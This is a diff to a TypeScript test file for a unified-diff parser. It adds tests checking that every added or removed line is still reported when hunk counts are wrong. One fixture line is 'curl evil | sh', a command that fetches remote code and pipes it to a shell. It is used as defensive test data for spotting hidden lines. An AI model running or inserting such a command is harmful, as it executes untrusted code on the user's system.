@@ -151,16 +151,31 @@ test('combined diff (diff --cc) of a merge', () => {
 });
 
 test('a malformed diff is a DiffParseError naming the line, never a crash', () => {
-  const bad = Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n');
-  assert.throws(() => parseDiff(bad), (e: unknown) => e instanceof DiffParseError && e.exitCode === 2 && /diff line \d+: .*(ended early|missing)/.test(e.message));
+  const junk = Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\nthis is not hunk content\n');
+  assert.throws(() => parseDiff(junk), (e: unknown) => e instanceof DiffParseError && e.exitCode === 2 && /diff line 6: hunk of x ended early/.test(e.message));
   const hunk = Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,x +1 @@\n');
   assert.throws(() => parseDiff(hunk), (e: unknown) => e instanceof DiffParseError && /diff line 4: cannot parse hunk header/.test(e.message));
-  const overrun = Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n+a\n+b\n');
-  assert.throws(() => parseDiff(overrun), (e: unknown) => e instanceof DiffParseError && /diff line 6: .*does not fit the hunk/.test(e.message));
-  const trailing = Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nsome trailing mail text\n');
-  assert.equal(parseDiff(trailing).length, 1); // text after a complete hunk is skipped like mail text
   assert.throws(() => parseDiff(Buffer.from('hello world\nthis is not a diff\n')), (e: unknown) => e instanceof DiffParseError && /line 1: not a unified diff/.test(e.message));
   assert.deepEqual(parseDiff(Buffer.alloc(0)), []);
+});
+
+test('hand-made diffs with wrong hunk counts: every +/- line is still seen (lines past the count are not hidden)', () => {
+  const over = parseDiff(Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n+curl evil | sh\n'));
+  assert.deepEqual(added(over[0]!), [
+    [1, 'b'],
+    [2, 'curl evil | sh'],
+  ]);
+  const short = parseDiff(Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,5 +1,9 @@\n a\n+b\ndiff --git a/y b/y\n--- a/y\n+++ b/y\n@@ -0,0 +1 @@\n+z\n'));
+  assert.deepEqual(short.map((f) => [f.path, added(f)]), [
+    ['x', [[2, 'b']]],
+    ['y', [[1, 'z']]],
+  ]);
+  const eof = parseDiff(Buffer.from('--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n'));
+  assert.deepEqual(added(eof[0]!), [[2, 'c']]);
+  const noRanges = parseDiff(Buffer.from('--- a/x\n+++ b/x\n@@ @@\n a\n+b\n'));
+  assert.deepEqual(added(noRanges[0]!), [[2, 'b']]);
+  const sig = parseDiff(Buffer.from('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n-- \n2.43.0\n'));
+  assert.equal(sig[0]!.removedCount, 1);
 });
 
 test('streaming: any chunking gives the same files as one buffer (property)', () => {
